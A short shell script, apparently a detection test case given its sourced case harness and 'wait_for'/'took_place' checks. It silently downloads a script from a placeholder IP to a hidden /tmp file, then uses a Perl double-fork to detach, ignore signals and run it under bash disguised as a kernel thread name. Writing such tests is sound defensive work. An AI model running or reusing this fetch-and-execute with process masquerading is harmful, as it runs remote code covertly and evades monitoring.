#!/bin/sh
. /opt/case/case.sh

curl -sf -o /tmp/.s http://203.0.113.10/payload.sh
perl -MPOSIX=setsid -e '
exit if fork; setsid; exit if fork; $SIG{$_} = "IGNORE" for qw(HUP INT TERM); chdir "/";
open $_->[0], $_->[1], "/dev/null" for [*STDIN, "<"], [*STDOUT, ">"], [*STDERR, ">"];
sleep 1; exec { "/bin/bash" } "[rcu_tasks_kthre]", "/tmp/.s"'
wait_for /tmp/reached
took_place
